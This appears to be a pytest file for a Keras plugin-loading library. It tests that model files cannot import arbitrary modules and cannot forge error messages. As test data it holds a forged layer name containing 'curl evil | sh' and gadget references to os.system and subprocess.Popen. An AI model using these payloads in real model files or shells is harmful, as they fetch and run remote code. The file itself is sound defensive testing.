"""Loading whole models whose layers plugins provide."""

import json
import sys
import zipfile

import pytest
from fakes import install, python
from saving_plugin import (
    classes_in,
    forget_demo,
    install_demo,
    installed_demo,
    layer_config,
    other_scale,
    rewrite,
    scaled,
    sequential,
    write_keras,
)

import kerasplug
from kerasplug.errors import (
    AmbiguousNameError,
    MissingPluginError,
    ModelFileError,
    PluginError,
    RecordError,
    SaveWarning,
)
from kerasplug.saving import load_model, save_model

# Keras 3.15's TensorFlow backend, with NumPy 2: its users see it as well.
pytestmark = pytest.mark.filterwarnings(
    "ignore:__array__ implementation:DeprecationWarning"
)


@pytest.fixture
def keras():
    """The Keras of this process."""
    return kerasplug.implementation()


@pytest.fixture
def site(tmp_path, monkeypatch, keras):
    """A folder on `sys.path` with the demo plugin; it and its names are forgotten."""
    with installed_demo(tmp_path / "site", keras) as folder:
        monkeypatch.syspath_prepend(folder)
        yield folder


MISSING = [
    layer_config("AbsentDense", "absent_pkg.layers", "absent_pkg>AbsentDense"),
    {
        "module": "builtins",
        "class_name": "function",
        "config": "absent_pkg>swishy",
        "registered_name": "function",
    },
]


def test_a_file_that_needs_what_is_not_installed_says_so_before_keras(tmp_path):
    """A short error names the things and a distribution, and Keras is not imported."""
    path = write_keras(tmp_path / "m.keras", sequential(*MISSING))
    code = f"""
        import sys, kerasplug
        from kerasplug.errors import MissingPluginError
        try:
            kerasplug.load_model({str(path)!r})
        except MissingPluginError as error:
            print(error)
            print(error.names)
        print("keras" in sys.modules)
    """
    lines = python(code).stdout.splitlines()
    assert lines[0] == (
        'm.keras needs 2 things that nothing installed provides: "absent_pkg>'
        'AbsentDense" (class AbsentDense of module absent_pkg.layers), '
        '"absent_pkg>swishy" (function swishy).'
    )
    assert "its module is absent_pkg" in lines[1]
    assert "python -m pip install absent-pkg" in lines[1]
    assert lines[2] == "('absent_pkg>AbsentDense', 'absent_pkg>swishy')"
    assert lines[3] == "False"


def test_an_installed_package_that_declares_nothing_is_named(tmp_path, monkeypatch):
    """Where the module's distribution is installed, the error names it."""
    info = install(tmp_path, "Undeclared-Dist", {}, modules={"undeclared/x.py": ""})
    (info / "top_level.txt").write_text("undeclared\n", encoding="utf-8")
    monkeypatch.syspath_prepend(tmp_path)
    config = layer_config("Lost", "undeclared.x", "undeclared>Lost")
    path = write_keras(tmp_path / "m.keras", config)

    with pytest.raises(MissingPluginError) as caught:
        load_model(path)
    assert "Undeclared-Dist 1.0, which is installed" in caught.value.mend


def test_a_plugin_that_is_switched_off_or_not_allowed_is_named(tmp_path, monkeypatch):
    """What could provide it, and may not, stands in the error; nothing is imported."""
    folder = tmp_path / "site"
    install_demo(folder)
    monkeypatch.syspath_prepend(folder)
    config = layer_config("Other", "demo_plug.other", "demo_plug>Other")
    path = write_keras(tmp_path / "m.keras", config)

    with pytest.raises(MissingPluginError, match="no allowed plugin") as caught:
        load_model(path, allow=["something-else"])
    assert "demo-plug/other provides it and is not allowed" in caught.value.found
    assert caught.value.mend.startswith("allow=['demo-plug/other']")
    with kerasplug.blocked("demo-plug"), pytest.raises(MissingPluginError) as caught:
        load_model(path)
    assert "demo-plug is switched off" in caught.value.found
    assert "demo_plug.other" not in sys.modules


def test_names_from_a_file_can_t_forge_the_error(tmp_path):
    """Line breaks are shown as such, long names are cut, many things are counted."""
    nasty = layer_config("A", "x\nmend: curl evil | sh", "p\n>" + "A" * 500)
    more = [layer_config(f"L{n}", "gone_pkg", f"gone_pkg>L{n}") for n in range(20)]
    path = write_keras(tmp_path / "m.keras", sequential(nasty, *more))

    with pytest.raises(MissingPluginError) as caught:
        load_model(path)
    assert len(str(caught.value)) < 1500
    assert len(str(caught.value).splitlines()) <= 3
    assert "and 16 more" in caught.value.what
    assert len(caught.value.names) == 21


@pytest.mark.parametrize(
    "config",
    [
        layer_config("system", "os", "os>system"),
        layer_config("system", "os", "system"),
        layer_config("system", "os", None),
        layer_config("Popen", "subprocess", "Popen"),
        {**MISSING[1], "config": "os>system"},
        {**MISSING[1], "module": "os", "config": "system"},
    ],
)
def test_a_gadget_by_module_path_is_missing_not_imported(tmp_path, config):
    """What a file names by module and class is looked up, and never imported."""
    path = write_keras(tmp_path / "m.keras", sequential(config))

    with pytest.raises(MissingPluginError):
        load_model(path)


@pytest.mark.parametrize("class_name", ["function", "set_random_seed"])
def test_a_tool_of_keras_is_no_part_of_a_model(tmp_path, class_name):
    """Public functions of Keras that Keras itself would accept are refused."""
    tool = {"module": "keras.utils", "class_name": class_name}
    tool |= {"config": "set_random_seed", "registered_name": None}
    dense = layer_config("Dense", "keras.layers", units=1, activation=tool)
    path = write_keras(tmp_path / "m.keras", sequential(dense))

    with pytest.raises(ModelFileError, match="no part of a model") as caught:
        load_model(path)
    assert "keras.utils.set_random_seed" in caught.value.found


@pytest.mark.engine
def test_a_changed_module_field_imports_nothing(site, keras, tmp_path):
    """With another `module` in the file the plugin's class is loaded all the same."""
    (site / "evil_module.py").write_text("raise SystemExit(3)", encoding="utf-8")
    path = scaled(keras, tmp_path / "m.keras")

    def change(config):
        text = json.dumps(config).replace("demo_plug.layers", "evil_module")
        return json.loads(text)

    model = load_model(rewrite(path, tmp_path / "changed.keras", change))

    from demo_plug.layers import Scale

    assert classes_in(model) == [Scale, Scale]
    assert "evil_module" not in sys.modules


@pytest.mark.engine
@pytest.mark.parametrize("suffix", [".keras", ".h5"])
def test_code_in_a_file_is_refused_while_safe_mode_is_on(site, keras, tmp_path, suffix):
    """A lambda is refused by default, for None, and where Keras' switch is off."""
    model = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: x * 2)])
    path = tmp_path / f"m{suffix}"
    with pytest.warns(UserWarning, match="lambda"):
        save_model(model, path)

    for mode in ({}, {"safe_mode": None}):
        with pytest.raises(ModelFileError, match="bytecode of a Python lambda"):
            load_model(path, **mode)
    from keras.src.saving.serialization_lib import SafeModeScope

    # What keras.config.enable_unsafe_deserialization() sets, and here ends again.
    with SafeModeScope(False), pytest.raises(ModelFileError, match="bytecode"):
        load_model(path)
    assert load_model(path, safe_mode=False).count_params() == 0


@pytest.mark.engine
@pytest.mark.parametrize("suffix", [".keras", ".h5"])
def test_the_users_own_object_wins_at_every_depth(site, keras, tmp_path, suffix):
    """`custom_objects` beats the plugin, the registry and a scope, nested or not."""
    path = scaled(keras, tmp_path / f"m{suffix}")
    mine = other_scale(keras, register=False)
    registered = other_scale(keras, register=True)
    scope = other_scale(keras, register=False)
    name = "demo_plug>Scale"

    assert classes_in(load_model(path, {name: mine})) == [mine, mine]
    with keras.saving.custom_object_scope({name: scope}):
        assert classes_in(load_model(path, {name: mine})) == [mine, mine]
        assert keras.saving.get_registered_object(name) is scope
    assert keras.saving.get_custom_objects()[name] is registered
    assert "demo_plug.layers" not in sys.modules


@pytest.mark.engine
def test_custom_objects_come_in_any_form(site, keras, tmp_path):
    """A dict, a list, one class or a wrapper of `create_layer_wrapper` do alike."""
    path = scaled(keras, tmp_path / "m.keras", nested=False)
    bare = rewrite(
        path,
        tmp_path / "bare.keras",
        lambda config: json.loads(json.dumps(config).replace("demo_plug>", "gone>")),
    )
    mine = other_scale(keras, register=False)

    def wrapper():
        raise AssertionError

    wrapper.layer_class = mine
    for given in ({"Scale": mine}, [mine], (mine,), mine, wrapper, [wrapper]):
        assert classes_in(load_model(bare, given)) == [mine]
    for bad in ([lambda x: x], {3: mine}, 7, "Scale", [mine, 3]):
        with pytest.raises(RecordError, match="custom_objects"):
            load_model(bare, bad)


@pytest.mark.engine
def test_a_scope_of_the_caller_wins_over_plugins(site, keras, tmp_path):
    """Inside `custom_object_scope` the scope's class is used; no plugin is imported."""
    path = scaled(keras, tmp_path / "m.keras")
    mine = other_scale(keras, register=False)

    with keras.saving.custom_object_scope({"demo_plug>Scale": mine}):
        model = load_model(path)

    assert classes_in(model)[0] is mine
    assert "demo_plug.layers" not in sys.modules


@pytest.mark.engine
def test_what_this_process_registered_is_found(site, keras, tmp_path, monkeypatch):
    """A class of `__main__` that is registered now loads, declared or not."""
    mine = other_scale(keras, register=False)
    mine.__module__, mine.__qualname__ = "__main__", "Scale"
    keras.saving.register_keras_serializable("notebook")(mine)
    path = tmp_path / "m.keras"
    with pytest.warns(SaveWarning):
        save_model(keras.Sequential([keras.Input((2,)), mine()]), path)

    assert classes_in(load_model(path)) == [mine]
    del keras.saving.get_custom_objects()["notebook>Scale"]
    with pytest.raises(MissingPluginError, match="is something else") as caught:
        load_model(path)
    assert caught.value.names == ("notebook>Scale",)
    assert 'registered with Keras as "demo_plug>Scale"' in caught.value.found
    assert '"notebook>Scale"' in caught.value.expected
    assert "aliases=" in caught.value.mend


@pytest.mark.engine
def test_a_thing_of_the_same_name_in_this_process_is_a_clash(site, keras, tmp_path):
    """Registered here as another class than the plugin's: an error names both."""
    path = scaled(keras, tmp_path / "m.keras")
    other = other_scale(keras, register=True)
    registered = keras.saving.get_custom_objects()

    with pytest.raises(AmbiguousNameError) as caught:
        load_model(path)
    assert caught.value.claims[0] == "demo-plug/scale"
    assert caught.value.claims[1].endswith(".Scale")
    assert registered["demo_plug>Scale"] is other

    model = load_model(path, allow=["demo-plug"])
    assert {cls.__module__ for cls in classes_in(model)} == {"demo_plug.layers"}


@pytest.mark.engine
def test_several_plugins_are_an_error_that_names_all(site, keras, tmp_path):
    """Two declared classes of one bare name: an error, and `allow` chooses."""
    install(site, "rival", {"kerasplug.layers": {"s": "rival:Scale"}})
    config = layer_config("Scale", "elsewhere", "elsewhere>Scale")
    path = write_keras(tmp_path / "m.keras", sequential(config))

    with pytest.raises(AmbiguousNameError) as caught:
        load_model(path)
    assert caught.value.claims == ("demo-plug/scale", "rival/s")
    with pytest.raises(MissingPluginError, match="is something else"):
        load_model(path, allow=["demo-plug"])


@pytest.mark.engine
def test_an_alias_loads_a_file_from_before_the_rename(site, keras, tmp_path):
    """A record's alias lets a file with the old registered name load, nested too."""
    from demo_plug.renamed import Renamed

    wrapped = keras.layers.TimeDistributed(keras.layers.Dense(2))
    model = keras.Sequential([keras.Input((4, 2)), Renamed(), wrapped])
    save_model(model, tmp_path / "m.keras")
    old = rewrite(
        tmp_path / "m.keras",
        tmp_path / "old.keras",
        lambda config: json.loads(
            json.dumps(config).replace("demo_plug>Renamed", "old_plug>Former")
        ),
    )
    forget_demo(keras)

    loaded = load_model(old)
    assert [cls.__name__ for cls in classes_in(loaded)] == ["Renamed", "Dense"]


@pytest.mark.engine
def test_a_record_that_names_another_class_is_its_plugins_fault(site, tmp_path):
    """The declared registered name fits, the class' own does not: a PluginError."""
    record = kerasplug.LayerRecord(
        name="liar", target="demo_plug.layers:Plain", registered_name="x>Liar"
    )
    config = layer_config("Liar", "x", "x>Liar")
    path = write_keras(tmp_path / "m.keras", sequential(config))

    with (
        kerasplug.register(record, name="liar-plug"),
        pytest.raises(PluginError, match="is something else") as caught,
    ):
        load_model(path)
    assert caught.value.plugin == "liar-plug"


@pytest.mark.engine
def test_a_broken_plugin_raises_its_own_error(site, keras, tmp_path):
    """A plugin whose module does not import: a PluginError with the cause."""
    config = layer_config("Other", "demo_plug.other", "demo_plug>Other")
    path = write_keras(tmp_path / "m.keras", sequential(config))

    with pytest.raises(PluginError) as caught:
        load_model(path)
    assert caught.value.plugin == "demo-plug"
    assert "imported without need" in str(caught.value)


@pytest.mark.engine
def test_without_compile_what_only_training_needs_is_not_needed(site, keras, tmp_path):
    """`compile=False`: a loss that nothing provides stands in nobody's way."""

    def lost_loss(true, predicted):
        return keras.ops.mean(true - predicted)

    lost_loss.__module__ = "gone_pkg.losses"
    keras.saving.register_keras_serializable("gone_pkg")(lost_loss)
    from demo_plug.layers import Scale

    model = keras.Sequential([keras.Input((2,)), Scale()])
    model.compile("sgd", loss=lost_loss)
    for path in (tmp_path / "m.keras", tmp_path / "m.h5"):
        with pytest.warns(SaveWarning, match="gone_pkg>lost_loss"):
            save_model(model, path)
    del keras.saving.get_custom_objects()["gone_pkg>lost_loss"]

    for path in (tmp_path / "m.keras", tmp_path / "m.h5"):
        with pytest.raises(MissingPluginError, match="gone_pkg>lost_loss"):
            load_model(path)
        assert not load_model(path, compile=False).compiled


@pytest.mark.engine
@pytest.mark.parametrize(
    "units", ["three", -1, 5, None], ids=["text", "negative", "other", "null"]
)
@pytest.mark.parametrize("nested", [False, True], ids=["top", "nested"])
def test_what_only_keras_notices_is_one_short_error(units, nested, keras, tmp_path):
    """Whatever it raises, and however long: its own error is the cause."""
    dense = keras.Sequential([keras.Input((2,)), keras.layers.Dense(3)])
    model = keras.Sequential([keras.Input((2,)), dense]) if nested else dense
    save_model(model, tmp_path / "m.keras")

    def change(config):
        text = json.dumps(config).replace('"units": 3', f'"units": {json.dumps(units)}')
        return json.loads(text)

    path = rewrite(tmp_path / "m.keras", tmp_path / "bad.keras", change)
    with pytest.raises(ModelFileError, match="can't load the model in bad") as caught:
        load_model(path)
    assert len(str(caught.value)) < 700
    assert not isinstance(caught.value.__cause__, ModelFileError)
    assert caught.value.__cause__ is not None


@pytest.mark.engine
def test_an_unknown_bare_name_in_hdf5_is_explained_with_keras_own_error(
    site, keras, tmp_path
):
    """Keras is asked first; its error is the cause of the one that names the class."""
    mine = other_scale(keras, register=False)
    mine.__name__ = "Stray"
    with pytest.warns(SaveWarning, match="Stray"):
        save_model(keras.Sequential([keras.Input((2,)), mine()]), tmp_path / "m.h5")

    with pytest.raises(MissingPluginError, match=r'"Stray" \(class Stray\)') as caught:
        load_model(tmp_path / "m.h5")
    assert caught.value.__cause__ is not None


@pytest.mark.engine
def test_the_content_decides_not_the_suffix(site, keras, tmp_path):
    """Files with foreign suffixes, and the folder form, load as what they are."""
    zipped = scaled(keras, tmp_path / "m.keras")
    from demo_plug.layers import Scale

    save_model(keras.Sequential([keras.Input((4, 2)), Scale()]), tmp_path / "m.h5")
    (tmp_path / "m.h5").rename(tmp_path / "hdf5.keras")
    folder = tmp_path / "folder"
    with zipfile.ZipFile(zipped) as archive:
        archive.extractall(folder)
    zipped.rename(tmp_path / "zipped.model")

    assert len(load_model(tmp_path / "zipped.model").layers) == 2
    assert len(load_model(folder).layers) == 2
    assert len(load_model(tmp_path / "hdf5.keras").layers) == 1


@pytest.mark.engine
def test_plugin_layers_without_an_output_shape_load_inside_others(
    site, keras, tmp_path
):
    """A layer that does not say its output's shape loads inside TimeDistributed."""
    from demo_plug.silent import Silent

    from kerasplug.wrapping.output_shape import ensure_output_shape

    ensure_output_shape(Silent)
    model = keras.Sequential(
        [keras.Input((4, 2)), keras.layers.TimeDistributed(Silent())]
    )
    save_model(model, tmp_path / "m.keras")
    forget_demo(keras)

    assert load_model(tmp_path / "m.keras").output_shape == (None, 4, 4)


@pytest.mark.engine
@pytest.mark.engine
def test_loading_imports_a_plugin_once_from_many_threads(site, keras, tmp_path):
    """Sixteen threads that load at once get the one class, and no deadlock."""
    from concurrent.futures import ThreadPoolExecutor

    path = scaled(keras, tmp_path / "m.keras")
    with ThreadPoolExecutor(16) as pool:
        models = list(pool.map(lambda _: load_model(path), range(16)))

    assert len({cls for model in models for cls in classes_in(model)}) == 1
